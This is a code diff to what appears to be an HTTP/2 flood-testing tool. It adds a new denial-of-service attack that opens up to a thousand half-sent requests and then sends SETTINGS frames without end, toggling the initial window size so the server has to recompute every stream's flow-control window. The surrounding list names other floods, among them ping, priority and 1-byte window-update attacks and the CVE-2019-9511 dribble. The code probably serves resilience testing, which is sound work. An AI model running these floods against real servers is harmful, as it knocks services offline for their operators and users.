@@ -10,6 +10,8 @@ _DATA_FRAMES_A_PIECE = 200
 _BYTES_OF_AN_ANSWER = 500
 _DRIBBLE_STREAMS = 64
 _PADDING_BYTES = 255
+_OPEN_CALLS = 1000
+_BYTES_OF_A_HALF_CALL = 400
 
 
 def _frames(link: Link, frame: bytes) -> Pieces:
@@ -38,6 +40,19 @@ def _data(link: Link, payload: bytes, padding: int = 0) -> Pieces:
         yield cancel(stream)
 
 
+def _windows_of_open_calls(link: Link) -> Pieces:
+    """Change the windows of many open calls again and again."""
+    yield from link.ready()
+    piece = request()[:_BYTES_OF_A_HALF_CALL]
+    for _ in range(min(_OPEN_CALLS, link.max_streams)):
+        yield from link.room(len(piece))
+        stream = link.next_stream()
+        yield headers(stream, CLASSIFY) + data(stream, piece, False)
+    settings = [frames.settings({frames.INITIAL_WINDOW_SIZE: size}) for size in (2**16, 2**17)]
+    while True:
+        yield b"".join(settings) * _DATA_FRAMES_A_PIECE
+
+
 def _dribble(link: Link) -> Pieces:
     """Open the windows of many answers by one byte at a time (CVE-2019-9511)."""
     yield from link.ready()
@@ -56,6 +71,7 @@ FLOODS = (
     Attack("ping flood", partial(_frames, frame=frames.frame(frames.PING, 0, 0, bytes(8)))),
     Attack("priority flood", partial(_frames, frame=priority(1))),
     Attack("empty SETTINGS", partial(_frames, frame=frames.settings({}))),
+    Attack("windows of open calls", _windows_of_open_calls),
     Attack("window updates of 1 byte", partial(_frames, frame=frames.window_update(0, 1))),
     Attack("stream window updates of 1 byte", partial(_frames, frame=frames.window_update(1, 1))),
     Attack("unknown frames", partial(_frames, frame=frames.frame(0x2A, 0, 0))),
